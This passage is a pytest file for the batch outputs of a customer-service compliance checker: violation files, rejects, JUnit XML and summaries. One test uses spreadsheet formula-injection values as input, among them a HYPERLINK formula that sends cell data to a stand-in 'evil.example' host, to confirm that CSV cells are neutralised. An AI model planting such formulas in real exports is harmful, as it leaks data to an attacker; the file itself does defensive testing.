"""Batch outputs: violation files (JSONL, JSON, CSV), rejects file, JUnit XML, summary JSON, the terminal
summary and the progress bar. Small inputs written by each test; evaluated in this process (jobs=1)."""

from __future__ import annotations

import csv
import datetime as dt
import functools
import gzip
import io
import json
import os
import re
import sys
import xml.etree.ElementTree as ET
from fractions import Fraction
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

import servicerules
from servicerules.batch.output import (
    CSV_COLUMNS,
    BatchSink,
    JUnitWriter,
    RejectsWriter,
    SummaryJsonWriter,
    SummaryPrinter,
    ViolationWriter,
    make_progress,
    violation_format,
)
from servicerules.batch import runner
from servicerules.batch.mapping import apply_mapping, load_mapping
from servicerules.batch.runner import check_files
from servicerules.batch.summary import BatchSummary, RejectedRecord
from servicerules.report import Violation

ROOT = Path(__file__).resolve().parents[2]
AS_OF = dt.datetime(2026, 3, 5, 9, tzinfo=dt.timezone.utc)
CARD = "4111 1111 1111 1111"


@pytest.fixture(scope="module")
def ruleset() -> servicerules.CompiledRuleset:
    return servicerules.load(ROOT / "rulesets" / "starter.yaml")


def _email(i: int, reply_after_minutes: int | None, text: str = "Hello, sorted. Anything else?") -> dict[str, Any]:
    events = [{"at": "2026-03-02T09:00:00Z", "type": "message", "author": {"role": "customer"}, "text": f"Help, my card is {CARD}"}]
    if reply_after_minutes is not None:
        events.append({"at": f"2026-03-02T{9 + reply_after_minutes // 60:02d}:{reply_after_minutes % 60:02d}:00Z",
                       "type": "message", "author": {"role": "agent", "id": "a1"}, "text": text})
    return {"id": f"E-{i}", "channel": "email", "team": "billing", "created_at": "2026-03-02T09:00:00Z", "events": events}


def _write_jsonl(path: Path, records: list[Any]) -> str:
    path.write_text("".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in records), encoding="utf-8")
    return str(path)


@pytest.fixture
def data(tmp_path: Path) -> str:
    return _write_jsonl(tmp_path / "in.jsonl", [_email(1, 30), _email(2, 30, "Sorted."), "{broken", {"id": "x"}, _email(3, None)])


def _expected_violations(ruleset: Any) -> list[Violation]:
    return [v for i, m in ((1, 30), (2, 30), (3, None)) for v in ruleset.evaluate(_email(i, m) if i != 2 else _email(2, 30, "Sorted."), as_of=AS_OF).violations]


# ------------------------------------------------------------------------------------------ violations


def test_violation_format_from_option_or_extension() -> None:
    assert violation_format("out.csv") == "csv"
    assert violation_format("out.JSON") == "json"
    assert violation_format("out.ndjson") == "jsonl"
    assert violation_format("out.txt") == "jsonl"
    assert violation_format(None) == "jsonl"
    assert violation_format("out.csv", "json") == "json"
    with pytest.raises(ValueError, match="unknown violation format 'xml'"):
        violation_format("out.xml", "xml")


def test_jsonl_json_and_csv_outputs_hold_the_same_violations(ruleset: Any, data: str, tmp_path: Path) -> None:
    paths = {fmt: tmp_path / f"v.{fmt}" for fmt in ("jsonl", "json", "csv")}
    sinks = [ViolationWriter.open(str(p)) for p in paths.values()]
    summary = check_files(ruleset, [data], sinks=sinks, as_of=AS_OF)
    expected = _expected_violations(ruleset)
    assert summary.violations == len(expected) > 3
    jsonl = [Violation.model_validate_json(line) for line in paths["jsonl"].read_text().splitlines()]
    assert jsonl == expected
    assert [Violation.model_validate(v) for v in json.loads(paths["json"].read_text())] == expected
    text = paths["csv"].read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(expected)
    for row, violation in zip(rows, expected):
        assert row == {
            "interaction_id": violation.interaction_id,
            "rule_id": violation.rule_id,
            "severity": violation.severity.value,
            "mode": violation.mode.value,
            "message": violation.message,
            "event_index": "" if violation.evidence.event_index is None else str(violation.evidence.event_index),
            "at": json.loads(violation.model_dump_json())["evidence"]["at"] or "",
            "excerpt": violation.evidence.excerpt or "",
            "actions": ";".join(a.id for a in violation.actions),
            "ruleset": "starter",
            "version": "1.0.0",
        }
    first_reply = next(r for r in rows if r["rule_id"] == "reply.email-first-reply")
    assert (first_reply["interaction_id"], first_reply["actions"], first_reply["severity"]) == ("E-3", "reply-now;review-queue-staffing", "major")
    card = next(r for r in rows if r["rule_id"] == "privacy.card-number-in-message")
    assert card["at"] == "2026-03-02T09:00:00Z" and CARD not in card["excerpt"] and "411111••••••1111" in card["excerpt"]


def test_a_writer_subclass_that_overrides_add_outcome_sees_every_outcome(ruleset: Any, data: str, tmp_path: Path) -> None:
    # The writer's per-chunk digest must not bypass an add_outcome a subclass overrides, e.g. to filter rows.
    class OnlyCritical(ViolationWriter):
        def add_outcome(self, outcome: Any) -> None:
            kept = tuple(row for row in outcome.violations if row.severity == "critical")
            super().add_outcome(outcome._replace(violations=kept))

    path = tmp_path / "critical.jsonl"
    handle = path.open("w", encoding="utf-8")
    writer = OnlyCritical(handle)
    check_files(ruleset, [data], sinks=[writer], as_of=AS_OF)
    handle.close()
    written = [Violation.model_validate_json(line) for line in path.read_text().splitlines()]
    expected = [v for v in _expected_violations(ruleset) if v.severity.value == "critical"]
    assert written == expected and 0 < len(expected) < len(_expected_violations(ruleset))


def test_json_array_is_valid_when_empty_and_writer_can_take_violations(ruleset: Any, tmp_path: Path) -> None:
    out = tmp_path / "v.json"
    writer = ViolationWriter.open(str(out))
    writer.close()
    assert json.loads(out.read_text()) == []
    csv_out = tmp_path / "v.csv"
    writer = ViolationWriter.open(str(csv_out))
    for violation in ruleset.evaluate(_email(3, None), as_of=AS_OF).violations:
        writer.write(violation)
    writer.close()
    rows = list(csv.DictReader(csv_out.open(newline="", encoding="utf-8")))
    # E-3 is unanswered for 3 days at AS_OF (2 March 09:00 to 5 March 09:00): late for the e-mail reply (24h),
    # left without a personal reply (2d), and its only message, event 0, holds a card number. Each row points
    # at that message, with the card masked.
    assert [(r["interaction_id"], r["rule_id"], r["severity"], r["message"], r["event_index"], r["actions"]) for r in rows] == [
        ("E-3", "reply.email-first-reply", "major", "The customer waited 3d for a first personal reply (target 24h).", "0",
         "reply-now;review-queue-staffing"),
        ("E-3", "reply.autoresponder-only", "critical", "Only automated replies for 3d: no agent has answered the customer.", "0",
         "reply-now"),
        ("E-3", "privacy.card-number-in-message", "critical", "Message 0 contains what looks like a card number (customer).", "0",
         "purge-card-data"),
    ]
    assert {(r["mode"], r["at"], r["excerpt"], r["ruleset"], r["version"]) for r in rows} == {
        ("enforce", "2026-03-02T09:00:00Z", "Help, my card is 411111••••••1111", "starter", "1.0.0")
    }


def test_writers_given_a_handle_complete_it_and_leave_it_open_for_the_caller(ruleset: Any, data: str) -> None:
    # A web service writes the violations and rejects to memory and reads them back after the run.
    violations, rejects = io.StringIO(), io.StringIO()
    summary = check_files(ruleset, [data], sinks=[ViolationWriter(violations, "json"), RejectsWriter(rejects)], as_of=AS_OF)
    assert not violations.closed and not rejects.closed
    assert [Violation.model_validate(v) for v in json.loads(violations.getvalue())] == _expected_violations(ruleset)
    assert len(rejects.getvalue().splitlines()) == summary.rejected == 2


# ------------------------------------------------------------------------------------- rejected records


def _rejects(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_rejects_file_has_position_code_reason_and_masked_raw_text(ruleset: Any, tmp_path: Path) -> None:
    long_bad = json.dumps({"id": "L", "note": f"card {CARD}", "padding": "x" * 3000})
    data = _write_jsonl(tmp_path / "in.jsonl", [_email(1, 30), "", f'{{"id": "b", "text": "{CARD}" oops', {"id": "x"}, long_bad])
    out = tmp_path / "rejects.jsonl"
    summary = check_files(ruleset, [data], sinks=[RejectsWriter.open(str(out))], as_of=AS_OF)
    lines = _rejects(out)
    assert [(r["source"], r["file"], r["line"], r["row"], r["code"]) for r in lines] == [
        (f"{data}:3", data, 3, 2, "SR301"),
        (f"{data}:4", data, 4, 3, "SR111"),
        (f"{data}:5", data, 5, 4, "SR110"),  # unknown fields 'note' and 'padding'
    ]
    assert lines[0]["reason"].startswith("malformed JSON: ")
    assert lines[0]["raw"] == '{"id": "b", "text": "411111••••••1111" oops' and lines[0]["raw_truncated"] is False
    assert lines[1]["reason"] == "missing required field 'channel'; missing required field 'created_at'"
    assert lines[1]["raw"] == '{"id": "x"}'
    # cut at 1 KB (1024 bytes of UTF-8, docs/reference/cli.md); the masked card's dots take 3 bytes each, and
    # the cut falls in the padding
    head = '{"id": "L", "note": "card 411111••••••1111", "padding": "'
    assert lines[2]["raw_truncated"] is True
    assert lines[2]["raw"] == head + "x" * (1024 - len(head.encode()))
    assert [r.source for r in summary.rejections] == [r["source"] for r in lines]


MAPPED_CHATS = """\
layout: per_message
group_by: chat
timezone: UTC
fields:
  channel: {const: chat}
  events[].at: {column: at, format: "%H:%M"}
  events[].public: {column: public}
  events[].text: text
"""
MAPPED_CHATS_CSV = (
    "chat,at,public,text\n"
    "c1,09:00,yes,hello\n"
    "c1,9h,yes,a bad time\n"  # SR310: not a time of format %H:%M
    "c2,09:00,maybe,hi\n"  # maps, but 'maybe' is no boolean: SR112
    "c3,09:00,yes,hey\n"
    "c3,09:05\n"  # SR305: two cells under four columns; c3 is not checked without it (SR310 at its first row)
    "c1,10:00,yes,back again\n"  # SR310: c1 again, not next to its earlier rows
    "c1,10:01,yes,and again\n"
    "c4,10:00,yes,last\n"
)
MAPPED_C2_JSON = (
    '{"channel": "chat", "events": [{"at": "1900-01-01T09:00:00+00:00", "public": "maybe", '
    '"text": "hi", "type": "message"}], "created_at": "1900-01-01T09:00:00+00:00", "id": "c2"}'
)
"""Chat c2 as the mapping makes it: a format without a date reads as on 1900-01-01 (as strptime does)."""


@pytest.mark.parametrize("window", [1024, 1])
def test_rejected_raw_text_of_mapped_rows_is_the_row_and_of_mapped_interactions_their_json(
    ruleset: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, window: int
) -> None:
    monkeypatch.setattr(runner, "_RECENT_ROWS", window)
    mapping = load_mapping(MAPPED_CHATS)
    (tmp_path / "chats.csv").write_text(MAPPED_CHATS_CSV, encoding="utf-8")
    out = tmp_path / "rejects.jsonl"
    check_files(ruleset, [str(tmp_path / "chats.csv")], sinks=[RejectsWriter.open(str(out))], as_of=AS_OF,
                transform=functools.partial(apply_mapping, mapping))
    expected = [
        (3, "SR310", "c1,9h,yes,a bad time"),
        (4, "SR112", MAPPED_C2_JSON),
        (6, "SR305", "c3,09:05"),
        (5, "SR310", "c3,09:00,yes,hey"),  # c3, which lost the row, at its first row
        (7, "SR310", "c1,10:00,yes,back again"),
    ]
    if window == 1:  # reported after the next row is read: c3 when c1 comes back, the run of c1 when c4 comes
        expected[3:] = [(5, "SR310", None), (7, "SR310", None)]
    assert [(r["line"], r["code"], r["raw"]) for r in _rejects(out)] == expected


@pytest.mark.parametrize("source", ["chats.csv.gz", "gzip named chats.csv", "stdin"])
def test_rejected_raw_text_of_mapped_rows_that_cannot_be_read_back_is_null_and_of_interactions_their_json(
    ruleset: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    # docs/reference/cli.md "What raw holds": gzip input and stdin cannot be read back, so a row the mapping
    # rejects, or that cannot be read, has null; an interaction the mapping made has its JSON, as from a
    # plain file. A gzip file is known by its content, whatever its name. The first row is a rejected one:
    # the compressed bytes of this small file all count towards it, and read back they would be garbage.
    export = MAPPED_CHATS_CSV.replace("c1,09:00,yes,hello\n", "").encode()
    if source == "stdin":
        monkeypatch.setattr(sys, "stdin", SimpleNamespace(buffer=io.BytesIO(export)))
        path, file = "-", "<stdin>"
    else:
        path = file = str(tmp_path / source.rpartition(" ")[2])
        Path(path).write_bytes(gzip.compress(export))
    out = tmp_path / "rejects.jsonl"
    check_files(ruleset, [path], sinks=[RejectsWriter.open(str(out))], as_of=AS_OF,
                transform=functools.partial(apply_mapping, load_mapping(MAPPED_CHATS)))
    assert [(r["file"], r["line"], r["code"], r["raw"], r["raw_truncated"]) for r in _rejects(out)] == [
        (file, 2, "SR310", None, False),
        (file, 3, "SR112", MAPPED_C2_JSON, False),
        (file, 5, "SR305", None, False),
        (file, 4, "SR310", None, False),  # c3, which lost that row
        (file, 6, "SR310", None, False),  # c1 again, after its rejected row
    ]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(ruleset: Any, tmp_path: Path) -> None:
    # Customers paste card numbers after text that a spreadsheet would run (the excerpt is their message),
    # in interactions whose ids are formulas too.
    def pasted(ident: str, text: str) -> dict[str, Any]:
        record = _email(1, 30)
        record["events"][0]["text"] = f"{text} {CARD}"
        return {**record, "id": ident}

    data = _write_jsonl(tmp_path / "in.jsonl", [pasted("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")'), pasted("-2", "@SUM(A1:A9)")])
    out = {fmt: tmp_path / f"v.{fmt}" for fmt in ("csv", "jsonl")}
    check_files(ruleset, [data], sinks=[ViolationWriter.open(str(p)) for p in out.values()], as_of=AS_OF)
    rows = list(csv.DictReader(io.StringIO(out["csv"].read_text(encoding="utf-8"))))
    cards = {r["interaction_id"]: r for r in rows if r["rule_id"] == "privacy.card-number-in-message"}
    assert set(cards) == {"'=1+1", "'-2"}
    assert cards["'=1+1"]["excerpt"].startswith("'=HYPERLINK(")
    assert cards["'-2"]["excerpt"].startswith("'@SUM(")
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    # JSON keeps the data as it is
    jsonl = [json.loads(line) for line in out["jsonl"].read_text().splitlines()]
    assert {v["interaction_id"] for v in jsonl} == {"=1+1", "-2"}
    assert any((v["evidence"]["excerpt"] or "").startswith("=HYPERLINK(") for v in jsonl)


@pytest.mark.parametrize("newline", ["\r", "\r\n", "\n"], ids=["CR", "CRLF", "LF"])
def test_csv_cells_with_a_line_break_are_quoted_and_stay_one_cell(ruleset: Any, tmp_path: Path, newline: str) -> None:
    # A reader ends a row at a lone CR too: an unquoted one split the row, and the text after it (here a
    # formula) became the first cell of a row of its own, where no leading ' guarded it.
    def pasted(ident: str, text: str) -> dict[str, Any]:
        record = _email(1, 30)
        record["events"][0]["text"] = text
        return {**record, "id": ident}

    data = _write_jsonl(tmp_path / "in.jsonl", [pasted(f"E{newline}=1", f"Thanks{newline}=1+2 {CARD}"), pasted("\r=2", f"{CARD}{newline}=3")])
    out = tmp_path / "v.csv"
    check_files(ruleset, [data], sinks=[ViolationWriter.open(str(out))], as_of=AS_OF)
    with out.open(encoding="utf-8", newline="") as handle:
        text = handle.read()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    same = ["privacy.card-number-in-message", "critical", "enforce", "Message 0 contains what looks like a card number (customer).", "0", "2026-03-02T09:00:00Z"]
    assert rows == [
        ["interaction_id", "rule_id", "severity", "mode", "message", "event_index", "at", "excerpt", "actions", "ruleset", "version"],
        [f"E{newline}=1", *same, f"Thanks{newline}=1+2 411111••••••1111", "purge-card-data", "starter", "1.0.0"],
        ["'\r=2", *same, f"411111••••••1111{newline}=3", "purge-card-data", "starter", "1.0.0"],
    ]
    # quoted, and the rows still end with a line feed alone
    assert f'version\n"E{newline}=1",privacy.' in text
    assert f'1.0.0\n"\'\r=2",privacy.' in text
    assert text.endswith(f'"411111••••••1111{newline}=3",purge-card-data,starter,1.0.0\n')


def test_rejected_raw_text_of_csv_rows_json_elements_and_gzip(ruleset: Any, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("id,channel\nc1\nc2,email\n", encoding="utf-8")
    (tmp_path / "b.json").write_text('[\n  {"id": "j1"},\n  {bad}\n]\n', encoding="utf-8")
    (tmp_path / "c.jsonl.gz").write_bytes(gzip.compress(b'{"id": "g1"}\n{nope\n'))
    out = tmp_path / "rejects.jsonl"
    check_files(ruleset, [str(tmp_path)], sinks=[RejectsWriter.open(str(out))], as_of=AS_OF)
    raw = {(Path(r["file"]).name, r["line"]): (r["code"], r["raw"]) for r in _rejects(out)}
    assert raw == {
        ("a.csv", 2): ("SR305", "c1"),  # the row, not the header
        ("a.csv", 3): ("SR111", "c2,email"),
        ("b.json", 2): ("SR111", '{"id": "j1"}'),
        ("b.json", 3): ("SR301", "{bad}"),
        ("c.jsonl.gz", 1): ("SR111", '{"id": "g1"}'),  # gzip: the parsed record as JSON
        ("c.jsonl.gz", 2): ("SR301", None),  # gzip: the unparsable text cannot be read back
    }


def test_rejected_raw_text_of_a_first_csv_row_after_a_header_ending_in_a_lone_cr(ruleset: Any, tmp_path: Path) -> None:
    # the reader ends CSV lines at a lone CR too; reading the first row back skipped lines at LF only, so
    # its raw text began with the header
    (tmp_path / "a.csv").write_bytes(b"id,channel\rc1\rc2,email\r")
    (tmp_path / "b.csv").write_bytes(b"id,channel\r\nc1\r\n")
    out = tmp_path / "rejects.jsonl"
    check_files(ruleset, [str(tmp_path)], sinks=[RejectsWriter.open(str(out))], as_of=AS_OF)
    raw = {(Path(r["file"]).name, r["line"]): r["raw"] for r in _rejects(out)}
    assert raw == {("a.csv", 2): "c1", ("a.csv", 3): "c2,email", ("b.csv", 2): "c1"}


def test_rejected_raw_text_is_decoded_with_the_inputs_encoding(ruleset: Any, tmp_path: Path) -> None:
    path = tmp_path / "cp.csv"
    path.write_bytes("id,channel,customer.name\nc1,email,J\u00e9r\u00f4me M\u00fcller,extra\n".encode("cp1252"))
    out = tmp_path / "rejects.jsonl"
    check_files(ruleset, [str(path)], encoding="cp1252", sinks=[RejectsWriter.open(str(out))], as_of=AS_OF)
    (rejected,) = _rejects(out)
    assert (rejected["code"], rejected["raw"]) == ("SR305", "c1,email,J\u00e9r\u00f4me M\u00fcller,extra")


def test_rejected_raw_text_keeps_a_leading_comma_or_bracket_outside_json_arrays(ruleset: Any, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text("id,channel,created_at\n,email,2026-03-02T08:00:00Z\n", encoding="utf-8")
    (tmp_path / "b.jsonl").write_text("[1,2,3]\n", encoding="utf-8")
    (tmp_path / "c.json").write_text('[{"id": "x"},\n [1]]\n', encoding="utf-8")
    out = tmp_path / "rejects.jsonl"
    check_files(ruleset, [str(tmp_path)], sinks=[RejectsWriter.open(str(out))], as_of=AS_OF)
    raw = {Path(r["file"]).name + f":{r['row']}": r["raw"] for r in _rejects(out)}
    assert raw == {
        "a.csv:1": ",email,2026-03-02T08:00:00Z",  # an empty id, not a row whose id is "email"
        "b.jsonl:1": "[1,2,3]",
        "c.json:1": '{"id": "x"}',  # in a JSON array the bracket and the comma are not the record's
        "c.json:2": "[1]",
    }
    (tmp_path / "d.tsv").write_text("id\tchannel\tx\n\temail\tx\textra\n", encoding="utf-8")
    (tmp_path / "e.csv").write_bytes("id,channel\n\u00bbc1,email,extra\n".encode("cp1252"))
    out = tmp_path / "rejects2.jsonl"
    check_files(ruleset, [str(tmp_path / "d.tsv")], sinks=[RejectsWriter.open(str(out))], as_of=AS_OF)
    assert [r["raw"] for r in _rejects(out)] == ["\temail\tx\textra"]  # the empty first cell's tab is kept
    out = tmp_path / "rejects3.jsonl"
    check_files(ruleset, [str(tmp_path / "e.csv")], encoding="cp1252", sinks=[RejectsWriter.open(str(out))], as_of=AS_OF)
    assert [r["raw"] for r in _rejects(out)] == ["\u00bbc1,email,extra"]  # 0xbb is a character here, not a BOM byte


def test_a_file_name_that_is_not_utf_8_leaves_the_rejects_and_summary_files_valid(ruleset: Any, tmp_path: Path) -> None:
    # An export named in Latin-1 ("Anrufe-März.jsonl" from an old system or a zip) is read by its name as
    # Python decodes it, with the byte 0xe4 as an unpaired surrogate, which UTF-8 cannot hold. The rejects
    # file and the summary crashed on it (UnicodeEncodeError), the summary JSON cut in the middle.
    folder = bytes(tmp_path)
    try:
        with open(folder + b"/Anrufe-M\xe4rz.jsonl", "wb") as handle:
            handle.write(b'{"id": "x"}\n' + json.dumps(_email(1, 30)).encode() + b"\n")
        with open(folder + b"/cut-M\xe4rz.jsonl.gz", "wb") as handle:  # gzip cut short: a record rejected there
            handle.write(gzip.compress(b"".join(json.dumps(_email(k, 30)).encode() + b"\n" for k in range(200)))[:300])
    except (OSError, UnicodeError):
        pytest.skip("this file system takes only UTF-8 file names")
    rejects, summary_json = tmp_path / "rejects.jsonl", tmp_path / "summary.json"
    summary = check_files(ruleset, [str(tmp_path)], as_of=AS_OF,
                          sinks=[RejectsWriter.open(str(rejects)), SummaryJsonWriter(str(summary_json))])
    # the byte shown as its escape, as in the raw text
    names = [str(tmp_path) + "/Anrufe-M\\udce4rz.jsonl", str(tmp_path) + "/cut-M\\udce4rz.jsonl.gz"]
    lines = _rejects(rejects)
    assert [(r["file"], r["source"].rpartition(":")[0], r["code"]) for r in lines] == [(names[0], names[0], "SR111"), (names[1], names[1], "SR304")]
    written = json.loads(summary_json.read_text(encoding="utf-8"))
    assert (written["read"], written["evaluated"], written["rejected"]) == (summary.read, summary.evaluated, 2)
    assert [r["source"] for r in written["rejections"]] == [r["source"] for r in lines]


def test_summary_keeps_a_bounded_number_of_rejections() -> None:
    summary = BatchSummary("r", "1", "reference", max_rejections=2)
    for k in range(5):
        summary.add_rejected(RejectedRecord(f"f:{k}", "SR301", "bad"))
    assert (summary.read, summary.rejected, len(summary.rejections)) == (5, 5, 2)
    assert summary.to_dict()["rejections_truncated"] is True
    assert summary.to_dict()["rejections_by_code"] == {"SR301": 5}


# ---------------------------------------------------------------------------------------------- JUnit


def _junit(path: Path) -> tuple[ET.Element, dict[str, ET.Element]]:
    root = ET.fromstring(path.read_text(encoding="utf-8").split("\n", 1)[1])
    suite = root.find("testsuite")
    assert suite is not None
    return suite, {case.get("name", ""): case for case in suite.findall("testcase")}


def test_junit_has_one_case_per_rule_failing_at_or_above_fail_on(ruleset: Any, data: str, tmp_path: Path) -> None:
    out = tmp_path / "junit.xml"
    check_files(ruleset, [data], sinks=[JUnitWriter(str(out), fail_on="major")], as_of=AS_OF)
    suite, cases = _junit(out)
    assert suite.get("name") == "servicerules check starter 1.0.0"
    assert list(cases) == [rule.spec.id for rule in ruleset.rules] + ["input records"]
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors"), suite.get("skipped")) == ("8", "3", "1", "3")
    skipped = [name for name, case in cases.items() if case.find("skipped") is not None]
    assert skipped == ["reply.chat-first-reply", "reply.social-first-reply", "protocol.closing"]  # none applied
    failure = cases["reply.email-first-reply"].find("failure")
    assert failure is not None and failure.get("message") == "1 major violation in 1 of 3 interactions"
    assert (failure.text or "").startswith(f"E-mails and web forms get a personal reply within 24 hours\nE-3 ({data}:5): ")
    assert cases["protocol.greeting"].find("failure") is None  # minor: below --fail-on major
    assert cases["privacy.card-number-in-message"].find("failure") is not None
    error = cases["input records"].find("error")
    assert error is not None and error.get("message", "").startswith("2 of 5 records rejected")


def test_junit_fail_on_never_has_no_failures(ruleset: Any, data: str, tmp_path: Path) -> None:
    out = tmp_path / "junit.xml"
    check_files(ruleset, [data], sinks=[JUnitWriter(str(out), fail_on="never")], as_of=AS_OF)
    suite, cases = _junit(out)
    # the same cases as with --fail-on major, none failing: the rules E-1..E-3 violate pass, the three that
    # applied to none of them are still skipped, and the two rejected records are still an error (they make
    # the run's status 1 whatever --fail-on says)
    assert list(cases) == [rule.spec.id for rule in ruleset.rules] + ["input records"]
    assert (suite.get("tests"), suite.get("failures"), suite.get("errors"), suite.get("skipped")) == ("8", "0", "1", "3")
    assert [name for name, case in cases.items() if len(case) == 0] == [
        "reply.email-first-reply", "reply.autoresponder-only", "protocol.greeting", "privacy.card-number-in-message"
    ]
    error = cases["input records"].find("error")
    assert error is not None and error.get("message", "").startswith("2 of 5 records rejected")


# ----------------------------------------------------------------------------------- summary outputs


def test_summary_json_and_failing_counts(ruleset: Any, data: str, tmp_path: Path) -> None:
    out = tmp_path / "summary.json"
    summary = check_files(ruleset, [data], sinks=[SummaryJsonWriter(str(out))], as_of=AS_OF)
    written = json.loads(out.read_text())
    assert written == json.loads(json.dumps(summary.to_dict()))
    assert (written["read"], written["evaluated"], written["rejected"]) == (5, 3, 2)
    greeting = next(r for r in written["rules"] if r["rule_id"] == "protocol.greeting")
    assert (greeting["severity"], greeting["violated"], greeting["examples"]) == ("minor", 1, ["E-2"])
    # every rule of the starter ruleset is enforced. Each customer message holds a card number (critical);
    # E-2's reply "Sorted." does not greet (minor); E-3, unanswered for 3 days, is late (major) and has no
    # personal reply (critical). E-1: 1 critical; E-2: 1 critical, 1 minor; E-3: 2 critical, 1 major.
    assert written["enforced_by_severity"] == {"critical": 4, "major": 1, "minor": 1}
    assert [summary.failing(level) for level in ("critical", "major", "minor", "info", "never")] == [4, 5, 6, 6, 0]


def test_terminal_summary_shows_top_violations_and_rejections(ruleset: Any, data: str) -> None:
    summary = check_files(ruleset, [data], as_of=AS_OF)
    summary.interrupted = True
    out = io.StringIO()
    SummaryPrinter(out, width=160).print(summary)
    text = out.getvalue()
    assert "5 read, 3 evaluated, 2 rejected" in text
    assert "Interrupted: results cover the first 5 records." in text
    top = text[text.index("Top violations"):]
    assert top.index("privacy.card-number-in-message") < top.index("protocol.greeting")
    assert "Rejected records (2):" in text
    for k in range(30):
        summary.add_rejection(f"x:{k}", "SR301", "bad")
    out = io.StringIO()
    SummaryPrinter(out, width=160).print(summary)
    assert "… and 12 more (see --rejects); by code: SR111 × 1, SR301 × 31" in out.getvalue()


def _summary_with_rules(*rules: tuple[str, str, int]) -> BatchSummary:
    """A summary of 100 interactions with the given rules: (rule id, severity, violated interactions)."""
    from servicerules.batch.summary import GroupStats, RuleStats

    summary = BatchSummary("demo", "1", "reference", read=100, evaluated=100, compliant=50, violations=sum(r[2] for r in rules))
    for rule_id, severity, violated in rules:
        summary.rules[rule_id] = RuleStats(rule_id, "", severity, violated=violated, compliant=100 - violated,
                                           violations=violated, examples=[f"{rule_id}-example-interaction-{k}" for k in range(3)])
    summary.by_agent["Jean-Baptiste-Emmanuel-Zorg-de-la-Tres-Longue-Famille"] = GroupStats(100, 50)
    return summary


def test_terminal_summary_puts_the_most_severe_violations_first() -> None:
    # by count alone, eleven frequent info-level rules pushed the one critical rule out of the top ten
    rules = [(f"protocol.info-{k:02d}", "info", 40 + k) for k in range(11)] + [("privacy.card-number", "critical", 2), ("reply.late", "major", 5)]
    summary = _summary_with_rules(*rules)
    assert [s.rule_id for s in summary.top_violations(3)] == ["privacy.card-number", "reply.late", "protocol.info-10"]
    out = io.StringIO()
    SummaryPrinter(out, width=160).print(summary)
    text = out.getvalue()
    top = text[text.index("Top violations") :]
    assert top.index("privacy.card-number") < top.index("reply.late") < top.index("protocol.info-10")
    assert "protocol.info-01" not in top[: top.index("… and")]  # the top ten: 1 critical, 1 major, 8 info
    assert "… and 3 more violated rules (see Compliance per rule)" in text


def test_terminal_summary_labels_shares_compliance_and_counts_compliant() -> None:
    # the rule table's "compliant" is a count; the group tables' share was labelled "compliant" too
    out = io.StringIO()
    SummaryPrinter(out, width=160).print(_summary_with_rules(("reply.late", "major", 5)))
    text = out.getvalue()
    rules, agents = text[: text.index("Top violations")], text[text.index("Compliance per agent") :]
    assert re.search(r"┃ violated ┃ compliant ┃ n/a ┃ compliance ┃", rules) and "│        95 │" in rules
    assert re.search(r"┃ interactions ┃ compliance ┃", agents) and "│      50.0% │" in agents


def test_terminal_summary_counts_have_thousands_separators_as_the_progress_bar() -> None:
    from servicerules.batch.summary import GroupStats, RuleStats

    summary = BatchSummary("calls", "1", "reference", read=33_344, evaluated=33_323, rejected=21, compliant=12_345, violations=1_234_567)
    summary.rules["phone.wait"] = RuleStats("phone.wait", "", "major", violated=20_978, compliant=12_345, violations=1_234_567)
    summary.by_agent["DANA"] = GroupStats(20_000, 10_000)
    out = io.StringIO()
    SummaryPrinter(out, width=160).print(summary)
    text = out.getvalue()
    assert text.splitlines()[0] == "calls 1 (backend reference): 33,344 read, 33,323 evaluated, 21 rejected; 12,345 compliant, 1,234,567 violations"
    assert "│ phone.wait │ major    │   20,978 │    12,345 │   0 │      37.0% │" in text
    assert "│ DANA  │       20,000 │      50.0% │" in text


def test_terminal_percentages_never_round_some_to_none_or_all() -> None:
    # 1,999 compliant of 2,000 is 99.95%, which one decimal printed as 100.0% beside a violation; an
    # agent with one non-compliant interaction of 3,000 read 100.0%, with nothing in the row to tell
    from servicerules.batch.summary import GroupStats, RuleStats

    summary = BatchSummary("calls", "1", "reference", read=3_000, evaluated=3_000, compliant=2_999, violations=1)
    summary.rules["phone.wait"] = RuleStats("phone.wait", "", "major", violated=1, compliant=1_999, not_applicable=1_000, violations=1)
    summary.rules["phone.rare"] = RuleStats("phone.rare", "", "minor", violated=2_999, compliant=1, violations=2_999)
    summary.by_agent["DANA"] = GroupStats(3_000, 2_999)  # 99.9666…%
    summary.by_agent["EVE"] = GroupStats(2_000, 1_998)  # 99.9%: one decimal is enough
    summary.by_team["all"] = GroupStats(3_000, 3_000)
    summary.by_team["none"] = GroupStats(10, 0)
    out = io.StringIO()
    SummaryPrinter(out, width=160).print(summary)
    text = out.getvalue()
    assert "│ phone.wait │ major    │        1 │     1,999 │ 1,000 │     99.95% │" in text
    assert "│ phone.rare │ minor    │    2,999 │         1 │     0 │      0.03% │" in text
    # of all checked: 1 of 3,000 interactions (0.0333…%); 2,999 of 3,000
    assert re.search(r"│ phone\.wait │ major    │ +1 │ +1 │ +0\.03% │", text)
    assert re.search(r"│ phone\.rare │ minor    │ +2,999 │ +2,999 │ +99\.97% │", text)
    assert "│ DANA  │        3,000 │     99.97% │" in text
    assert "│ EVE   │        2,000 │      99.9% │" in text
    assert "│ all  │        3,000 │     100.0% │" in text and "│ none │           10 │       0.0% │" in text


def test_terminal_summary_prints_each_rejection_on_one_line() -> None:
    # wrapped at the width, '/exports/…/calls_february.txt:643:' came out as '…txt:6' and '43:' on the next line
    summary = _summary_with_rules(("reply.late", "major", 5))
    source = "/srv/exports/anonymous_bank_callcenter/data_anonymous_bank_february.txt:643"
